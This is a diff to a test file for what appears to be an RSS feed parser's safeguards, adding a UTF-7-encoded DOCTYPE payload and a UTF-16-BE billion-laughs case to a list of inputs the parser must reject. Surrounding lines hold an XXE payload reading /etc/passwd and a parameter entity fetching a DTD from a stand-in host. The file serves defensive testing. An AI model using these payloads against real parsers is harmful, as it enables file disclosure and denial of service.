@@ -234,6 +234,11 @@ XXE = (
     '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     "<rss><channel><item><title>&xxe;</title><link>http://a.test/</link></item></channel></rss>"
 )
+# "<" written as "+ADw-": invisible to a byte scan, decoded by a parser that honours the declaration
+UTF7_ENTITIES = (
+    b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE rss +AFsAPA-!ENTITY a "aaaa"+AD4AXQA+-'
+    b"<rss><channel><item><title>&a;</title><link>http://a.test/</link></item></channel></rss>"
+)
 PARAM_ENTITY = '<!-- c --><!DOCTYPE rss [ <!ENTITY % ext SYSTEM "http://evil.test/x.dtd"> %ext; ]><rss/>'
 
 
@@ -246,6 +251,8 @@ PARAM_ENTITY = '<!-- c --><!DOCTYPE rss [ <!ENTITY % ext SYSTEM "http://evil.tes
         (XXE.encode(), "ENTITY"),
         (PARAM_ENTITY.encode(), "ENTITY"),
         (BILLION_LAUGHS.encode("utf-16"), "ENTITY"),
+        (BILLION_LAUGHS.encode("utf-16-be"), "ENTITY"),
+        (UTF7_ENTITIES, "not ASCII-compatible"),
         (b"<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>", "got an HTML page"),
         (b"\n<html lang='ar'><body><a href='/rss'>rss</a></body></html>", "got an HTML page"),
         (b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"/>',
